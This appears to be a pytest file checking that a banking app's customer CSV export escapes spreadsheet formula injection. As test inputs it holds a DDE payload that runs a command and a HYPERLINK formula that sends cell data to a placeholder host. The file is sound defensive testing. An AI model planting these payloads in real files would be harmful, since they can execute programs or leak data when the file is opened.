"""Issue 10 §5: the customer CSV export writes no cell that Excel would run as a formula (the
audit-log export already did not; both now use banyan.exports.csv_cell)."""

from __future__ import annotations

import csv
import io

import pytest

from banyan.exports import csv_cell


def test_the_book_export_writes_formulas_as_text(bank, login, make_customer):
    """Before: a customer named =1+2 or =HYPERLINK(…) was written verbatim, and Excel ran it."""
    names = ["=1+2", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", '=HYPERLINK("http://x.example/?"&A1,"点击")',
             "王小明"]
    for name in names:
        make_customer(bank.rm_a, name=name)
    response = login(bank.rm_a).get("/customers/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    written = {row[1] for row in rows[1:]}
    assert written == {"'" + n for n in names[:-1]} | {"王小明"}
    # a cell of the export never starts with a formula character
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("@SUM(1)", "'@SUM(1)"), ("+1-2", "'+1-2"), ("-A1", "'-A1"), ("\r=1", "'\r=1"),
    ("-1200.50", "-1200.50"), ("+86", "+86"), (-3, "-3"), ("王小明", "王小明"), ("a=1", "a=1"), (None, ""), ("", ""),
])
def test_one_rule_for_every_export(value, cell):
    assert csv_cell(value) == cell
